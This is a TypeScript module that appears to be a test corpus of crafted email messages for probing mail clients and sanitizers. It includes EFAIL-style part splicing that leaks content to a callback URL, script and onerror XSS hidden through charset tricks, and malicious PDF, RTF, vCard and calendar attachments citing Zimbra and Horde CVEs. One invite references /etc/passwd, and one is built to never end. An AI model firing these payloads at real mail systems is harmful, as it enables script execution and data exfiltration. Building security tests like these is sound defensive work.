/** Tricks of MIME: parts that become one another, that say they are something else, and files that hold HTML. */
import { headersOf, html, multipart, part } from "./trick.ts";
import type { Bait, Family, Trick } from "./trick.ts";

const file = (
  does: Trick["does"],
  name: string,
  naive: (bait: Bait) => string,
  type: string,
  body: (bait: Bait) => string,
): Trick => ({
  ...html(does, name, naive),
  message: (bait) =>
    multipart(bait, "mixed", [
      part("text/plain", "See the file."),
      part(type, body(bait), ["Content-Disposition: attachment"]),
    ]),
});

const script = ({ run }: Bait): string => `<script>${run}</script>`;

/** In this charset, which TextEncoder does not write. */
const inCharset = (does: Trick["does"], name: string, charset: string, body: (bait: Bait) => Uint8Array): Trick => ({
  ...html(does, name, script),
  message: (bait) =>
    Buffer.concat([
      Buffer.from(
        `${headersOf(bait, [`Content-Type: text/html; charset=${charset}`, "Content-Transfer-Encoding: 8bit"])}\r\n\r\n`,
      ),
      body(bait),
    ]),
});

export const parts: Family = {
  name: "MIME",
  tricks: [
    {
      // EFAIL, Poddebniak et al. 2018: direct exfiltration
      ...html("asks", "parts that splice (EFAIL)", ({ url }) => `<img src="${url("efail/")}<p>secret</p>">`),
      message: (bait) =>
        multipart(bait, "mixed", [
          part("text/html", `<img src="${bait.url("efail/")}`),
          part("text/plain", "the secret"),
          part("text/html", `"><p>end</p>`),
        ]),
    },
    {
      ...html(
        "asks",
        "parts that splice by a style",
        ({ url }) => `<style>p{background:url("${url("efail-css")}")}</style><p>secret</p>`,
      ),
      message: (bait) =>
        multipart(bait, "mixed", [
          part("text/html", `<style>pre,p{background:url("${bait.url("efail-css")}`),
          part("text/plain", "the secret"),
          part("text/html", `")}</style><style>.part,pre,body{display:none!important}</style>`),
        ]),
    },
    {
      ...html(
        "asks",
        "parts that splice by a form, a base, a comment",
        ({ url }) => `<base href="${url("b/")}"><img src=x>`,
      ),
      message: (bait) =>
        multipart(bait, "mixed", [
          part("text/html", `<base href="${bait.url("b/")}"><form action="${bait.url("f")}"><textarea name=x>`),
          part("text/html", `<p>the secret</p><img src=relative.png>`),
          part("text/html", `</textarea><button>x</button></form><!--`),
          part("text/plain", "after"),
        ]),
    },
    {
      ...html("runs", "alternatives in one another", script),
      message: (bait) =>
        multipart(bait, "alternative", [
          part("text/plain", "plain"),
          `Content-Type: multipart/related; boundary=rel\r\n\r\n--rel\r\n${part("text/html", `<p>x</p>${script(bait)}`)}\r\n--rel--`,
          part("text/html", `<img src=x onerror=${bait.run}>`),
        ]),
    },
    {
      ...html("runs", "text that is HTML, HTML that is text", script),
      message: (bait) =>
        multipart(bait, "mixed", [
          part("text/plain; charset=utf-8", `<html>${script(bait)}`),
          part("TEXT/HTML", `<p>x</p>${script(bait)}`),
          part("text/x-html", script(bait)),
          part("text/xml", `<html xmlns="http://www.w3.org/1999/xhtml">${script(bait)}</html>`),
          part("text/javascript", bait.run),
          part("text/html+x; x=y", script(bait)),
        ]),
    },
    {
      ...html("runs", "a type said twice, and a type that is none", script),
      message: (bait) =>
        `${headersOf(bait, ["Content-Type: text/plain", "Content-Type: text/html", "Content-Type: image/png"])}\r\n\r\n${script(bait)}\r\n`,
    },
    {
      ...html("runs", "a body in base64, and quoted", script),
      message: (bait) =>
        multipart(bait, "mixed", [
          part("text/html", Buffer.from(`<p>x</p>${script(bait)}`).toString("base64"), [
            "Content-Transfer-Encoding: base64",
          ]),
          part("text/html", `<img src=3D"${bait.url("qp.png").replaceAll("=", "=3D")}"=\r\n>`, [
            "Content-Transfer-Encoding: quoted-printable",
          ]),
          part("text/html", script(bait), ["Content-Transfer-Encoding: x-unknown"]),
        ]),
    },
    inCharset("nothing", "UTF-7", "utf-7", ({ run }) => Buffer.from(`+ADw-script+AD4-${run}+ADw-/script+AD4-`)),
    // "Encoding differentials" (Sonar 2024): ISO-2022-JP hides the quote's end
    inCharset("nothing", "ISO-2022-JP that switches", "iso-2022-jp", ({ run }) =>
      Buffer.from(`<img alt="\x1B(J"><img alt="\x1B$B"><p title="\x1B(B"><img src=x onerror=${run}>`),
    ),
    inCharset("nothing", "UTF-16", "utf-16le", ({ run }) => Buffer.from(`<img src=x onerror=${run}>`, "utf16le")),
    inCharset("nothing", "UTF-8 that is too long, and HZ", "utf-8", ({ run }) =>
      Buffer.concat([
        Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]),
        Buffer.from(`img src=x onerror=${run}>`),
        Buffer.from("~{<~}"),
      ]),
    ),
    inCharset("nothing", "Latin with a high bit for each sign", "us-ascii", ({ run }) =>
      Uint8Array.from(Buffer.from(`<script>${run}</script>`), (byte) =>
        /[<>]/.test(String.fromCharCode(byte)) ? byte | 0x80 : byte,
      ),
    ),
    file("runs", "an HTML attachment", script, "text/html; name=page.html", script),
    file(
      "runs",
      "an XHTML attachment",
      script,
      "application/xhtml+xml; name=page.xhtml",
      (bait) => `<html xmlns="http://www.w3.org/1999/xhtml">${script(bait)}</html>`,
    ),
    file(
      "runs",
      "an SVG attachment",
      ({ run }) => `<svg onload=${run}></svg>`,
      "image/svg+xml; name=x.svg",
      ({ run }) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    ),
    file("runs", "a PDF that is HTML", script, "application/pdf; name=x.pdf", script),
    file(
      "nothing",
      "a PDF with script and an address",
      () => "",
      "application/pdf; name=y.pdf",
      ({ url, run }) =>
        `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${run.replace(/[()]/g, "\\$&")};app.launchURL("${url("pdf")}"))>>>>endobj\n2 0 obj<</S/URI/URI(${url("pdf2")})>>endobj\ntrailer<</Root 1 0 R>>`,
    ),
    // Roundcube 1.7.4: names within TNEF; Horde CVE-2022-26874: OLE and office files
    file(
      "runs",
      "winmail.dat",
      script,
      "application/ms-tnef; name=winmail.dat",
      ({ run }) => `\x78\x9f\x3e\x22\x01\x00<img src=x onerror=${run}>.png\0`,
    ),
    file(
      "nothing",
      "RTF that fetches",
      () => "",
      "text/rtf; name=x.rtf",
      ({ url, run }) =>
        `{\\rtf1{\\field{\\*\\fldinst{HYPERLINK "javascript:${run}"}}}{\\*\\template ${url("rtf")}}{\\object\\objautlink ${url("ole")}}<img src=x onerror=${run}>}`,
    ),
    file(
      "nothing",
      "a shortcut, a script, a page archive",
      () => "",
      "application/octet-stream; name=x.url",
      ({ url }) => `[InternetShortcut]\r\nURL=${url("shortcut")}\r\nIconFile=${url("icon")}`,
    ),
    {
      // Zimbra CVE-2025-27915, CVE-2022-24682: HTML in a calendar
      ...html(
        "runs",
        "an invitation with HTML (CVE-2025-27915)",
        ({ run }) => `<details ontoggle="${run}" open>x</details>`,
      ),
      message: (bait) =>
        multipart(bait, "alternative", [
          part("text/plain", "You are invited."),
          part(
            "text/calendar; method=REQUEST; charset=utf-8",
            [
              ...["BEGIN:VCALENDAR", "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT", "UID:1@evil.example"],
              ...["DTSTAMP:20260101T000000Z", "DTSTART:20270101T100000Z", "DTEND:20270101T110000Z"],
              `SUMMARY:<img src=x onerror=${bait.run}>`,
              `DESCRIPTION:<details ontoggle="${bait.run}" open>x</details> javascript:${bait.run}`,
              `X-ALT-DESC;FMTTYPE=text/html:<html><body onload=${bait.run}><img src="${bait.url("ics.png")}"></body></html>`,
              `LOCATION;ALTREP="${bait.url("altrep")}":<svg onload=${bait.run}>`,
              `ORGANIZER;CN="<img src=x onerror=${bait.run}>":mailto:a@b.example?attach=/etc/passwd`,
              `ATTENDEE;CN="<b>x</b>":javascript:${bait.run}`,
              `URL:javascript:${bait.run}`,
              ...[
                `ATTACH:${bait.url("attach")}`,
                `CONFERENCE;VALUE=URI:javascript:${bait.run}`,
                `IMAGE;VALUE=URI:${bait.url("image")}`,
              ],
              `BEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT1M\r\nATTACH:${bait.url("alarm")}\r\nEND:VALARM`,
              ...["END:VEVENT", "END:VCALENDAR"],
            ].join("\r\n"),
          ),
        ]),
    },
    {
      ...html("nothing", "an invitation that never ends", () => ""),
      message: (bait) =>
        multipart(bait, "mixed", [
          part(
            "text/calendar; method=REQUEST",
            [
              ...["BEGIN:VCALENDAR", "VERSION:2.0", "BEGIN:VEVENT", "UID:2", "DTSTART:19000101T000000Z"],
              ...["RRULE:FREQ=SECONDLY;COUNT=999999999;BYSECOND=0,1,2,3;BYYEARDAY=366", "SUMMARY:forever"],
              ...Array.from({ length: 500 }, () => "BEGIN:VEVENT"),
              ...["END:VEVENT", "END:VCALENDAR"],
            ].join("\r\n"),
          ),
        ]),
    },
    // vCard: Zimbra CVE-2024-45510 (contacts from mail)
    file(
      "runs",
      "a contact with HTML",
      ({ run }) => `<img src=x onerror=${run}>`,
      "text/vcard; name=x.vcf",
      ({ run, url }) =>
        [
          "BEGIN:VCARD",
          "VERSION:4.0",
          `FN:<img src=x onerror=${run}>`,
          `NOTE:<script>${run}</script>`,
          `URL:javascript:${run}`,
          `PHOTO:${url("vcard.png")}`,
          `SOUND:${url("vcard.ogg")}`,
          `KEY:data:text/html,<script>${run}</script>`,
          "END:VCARD",
        ].join("\r\n"),
    ),
    {
      ...html("runs", "a message in a message", script),
      message: (bait) =>
        multipart(bait, "mixed", [
          part("text/plain", "See the message."),
          part(
            "message/rfc822",
            `From: <b>x</b> <a@b>\r\nSubject: <img src=x onerror=${bait.run}>\r\nContent-Type: text/html\r\n\r\n<p>inner</p>${script(bait)}<img src="${bait.url("inner.png")}">`,
          ),
        ]),
    },
    {
      ...html(
        "asks",
        "bodies that lie elsewhere (message/external-body, RFC 2046)",
        ({ url }) => `<img src="${url("external")}">`,
      ),
      message: (bait) =>
        multipart(bait, "mixed", [
          part(
            `message/external-body; access-type=URL; URL="${bait.url("external")}"`,
            "Content-Type: text/html\r\n\r\n",
          ),
          part("message/partial; id=a; number=1; total=2", "x"),
          part(
            "multipart/report; report-type=delivery-status; boundary=r",
            `--r\r\nContent-Type: text/html\r\n\r\n${script(bait)}\r\n--r--`,
          ),
        ]),
    },
    {
      ...html("runs", "names and headers that end early", script),
      message: (bait) =>
        `${headersOf(bait, ['Content-Type: multipart/mixed; boundary="a"; boundary=b', "X: y\rContent-Type: text/html"])}\r\n\r\n--b\r\n${part("text/html", script(bait))}\r\n--a\r\n${part("text/html", `<img src=x onerror=${bait.run}>`)}\r\n--a--\r\n--b--\r\n`,
    },
  ],
};
